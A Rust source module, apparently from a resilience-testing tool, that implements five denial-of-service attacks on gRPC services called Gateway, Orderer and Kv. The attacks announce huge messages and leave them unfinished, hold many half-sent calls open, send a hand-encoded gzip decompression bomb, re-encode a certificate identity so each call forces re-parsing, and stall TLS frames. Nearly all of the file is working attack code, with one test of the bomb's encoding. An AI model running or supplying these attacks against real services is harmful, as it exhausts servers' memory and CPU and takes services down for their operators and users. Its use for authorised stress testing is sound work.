//! Messages without an end, messages that decompress to far more than their size, and messages that cost more than they
//! should.

use std::io;
use std::sync::Arc;

use bytes::Bytes;
use tokio::io::AsyncWriteExt as _;

use super::{Attack, AttackContext, Breach, attack, hold, unless_stalled};
use crate::target::TargetKind;
use crate::wire::grpc::{FlowControlWindows, head};
use crate::wire::link;
use crate::wire::tls;

const MIB: usize = 1 << 20;

pub fn attacks() -> Vec<Attack> {
    vec![
        attack!("unfinished-messages", "announces 99 MiB, ends at 98", &[TargetKind::Gateway, TargetKind::Orderer, TargetKind::Kv], 120.0 "MiB", unfinished),
        attack!("announced-messages", "announces 99 MiB, sends 100 KB", &[TargetKind::Gateway, TargetKind::Orderer], 300.0 "calls", announced),
        attack!("zip-bomb", "a compressed message of 25 MiB", &[TargetKind::Gateway, TargetKind::Orderer, TargetKind::Kv], 50.0 "calls", zip_bomb),
        attack!("identities", "writes one identity in many ways", &[TargetKind::Gateway], 300.0 "calls", identities),
        attack!("unfinished-frames", "a node's certificate, frames of 127 MiB that end at 100", &[TargetKind::Blocks, TargetKind::Intake, TargetKind::Others], 100.0 "MiB", unfinished_frames),
    ]
}

static ONE_MIB: [u8; MIB] = [0x55; MIB];

fn path(kind: TargetKind) -> &'static str {
    match kind {
        TargetKind::Orderer => "/orderer.AtomicBroadcast/Broadcast",
        TargetKind::Kv => "/heddle.kv.KeyValues/Put",
        _ => "/gateway.Gateway/Evaluate",
    }
}

/// Five calls with 98 MiB each, then smaller ones for the remaining budget; all stay unfinished.
async fn unfinished(scene: Arc<AttackContext>) -> io::Result<Breach> {
    let mut tasks = tokio::task::JoinSet::new();
    for place in 0..40u64 {
        let mib = if place < 5 { 99 } else { 2 };
        let scene = Arc::clone(&scene);
        tasks.spawn(async move {
            loop {
                let sent = send_unfinished(&scene, mib).await;
                // Refused; another call replaces it, at the pace of the rest.
                if sent.is_err() && !scene.pace.take(1.0).await {
                    return;
                }
                if sent.is_ok() {
                    return;
                }
            }
        });
    }
    scene.pace.over().await;
    Ok(None)
}

async fn send_unfinished(scene: &AttackContext, mib: u64) -> io::Result<()> {
    let channel = scene.grpc(FlowControlWindows::default()).await?;
    scene.pace.connected();
    let mut stream = channel.open(path(scene.port.kind), &[]).await?;
    stream.send(Bytes::copy_from_slice(&head(mib << 20))).await?;
    for _ in 1..mib {
        if !scene.pace.take(1.0).await {
            break;
        }
        unless_stalled(stream.send(Bytes::from_static(&ONE_MIB))).await?;
        scene.pace.sent(MIB);
    }
    scene.pace.over().await;
    Ok(())
}

async fn announced(scene: Arc<AttackContext>) -> io::Result<Breach> {
    scene
        .each(1_500, |scene, _| async move {
            let channel = scene.grpc(FlowControlWindows::default()).await?;
            scene.pace.connected();
            let mut stream = channel.open(path(scene.port.kind), &[]).await?;
            stream.send(Bytes::copy_from_slice(&head(99 << 20))).await?;
            stream.send(Bytes::from_static(&ONE_MIB[..100_000])).await?;
            scene.pace.sent(100_000);
            hold((channel, stream)).await
        })
        .await
}

async fn zip_bomb(scene: Arc<AttackContext>) -> io::Result<Breach> {
    let bomb = Bytes::from(gzipped_zeros(100_000));
    scene
        .each(100, move |scene, _| {
            let bomb = bomb.clone();
            async move {
                let channel = scene.grpc(FlowControlWindows::default()).await?;
                scene.pace.connected();
                let mut stream = channel.open(path(scene.port.kind), &[("grpc-encoding", "gzip")]).await?;
                let mut head = head(bomb.len() as u64);
                head[0] = 1;
                stream.send(Bytes::copy_from_slice(&head)).await?;
                scene.pace.sent(bomb.len());
                stream.send(bomb).await?;
                stream.requests.send_data(Bytes::new(), true).map_err(io::Error::other)?;
                stream.response.await.map_err(io::Error::other).map(|_| ())
            }
        })
        .await
}

/// Zeros, 258 per 13 bits: the fixed codes of DEFLATE for a length of 258 and a distance of 1.
fn gzipped_zeros(runs: usize) -> Vec<u8> {
    let mut bytes = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    let (mut held, mut count) = (0u64, 0);
    let mut put = |value: u64, bits: u32| {
        held |= value << count;
        count += bits;
        while count >= 8 {
            bytes.push(held as u8);
            held >>= 8;
            count -= 8;
        }
    };
    // The last block, with fixed codes; a literal zero (00110000).
    put(0b011, 3);
    put(0b0000_1100, 8);
    for _ in 0..runs {
        // Code 285 is 11000101, its first bit first; distance code 0 is five zeros.
        put(0b1010_0011, 8);
        put(0, 5);
    }
    put(0, 16);
    bytes.extend([0; 8]);
    bytes
}

/// Each call makes the server parse the certificate again, unless it recognises the identity in every encoding.
async fn identities(scene: Arc<AttackContext>) -> io::Result<Breach> {
    let user = scene.target.user(scene.insider())?;
    let channel = scene.grpc(FlowControlWindows::default()).await?;
    scene.pace.connected();
    scene
        .each(200, move |scene, number| {
            let (user, channel) = (user.written_otherwise(number), channel.clone());
            async move {
                let proposal = user.proposal(scene.target.channel(), "basic", &["AssetExists", "nothing"]);
                scene.pace.sent(proposal.signed.len());
                proposal.evaluate(&channel).await.map(|_| ())
            }
        })
        .await
}

async fn unfinished_frames(scene: Arc<AttackContext>) -> io::Result<Breach> {
    let config = tls::config(Some(&scene.target.node_tls(&format!("gateway-org{}", scene.insider()))?), &[])?;
    let mut tasks = tokio::task::JoinSet::new();
    for _ in 0..8 {
        let (scene, config) = (Arc::clone(&scene), Arc::clone(&config));
        tasks.spawn(async move {
            loop {
                let sent = async {
                    let mut link = scene.link(&config).await?;
                    scene.pace.connected();
                    link.stream.write_all(&link::head(127 << 20)).await?;
                    for _ in 0..100 {
                        if !scene.pace.take(1.0).await {
                            break;
                        }
                        unless_stalled(link.stream.write_all(&ONE_MIB)).await?;
                        scene.pace.sent(MIB);
                    }
                    scene.pace.over().await;
                    io::Result::Ok(())
                };
                if sent.await.is_ok() || !scene.pace.take(1.0).await {
                    return;
                }
            }
        });
    }
    scene.pace.over().await;
    Ok(None)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_bomb_is_a_thousandth_of_what_it_unpacks_to() {
        let bomb = gzipped_zeros(1_000);
        assert!(bomb.len() < 1_700, "{}", bomb.len());
        // The bits of the literal and of the first run, lowest first.
        assert_eq!(bomb[10] & 0b111, 0b011);
        assert_eq!((bomb[10] >> 3) | (bomb[11] << 5), 0b0000_1100);
    }
}
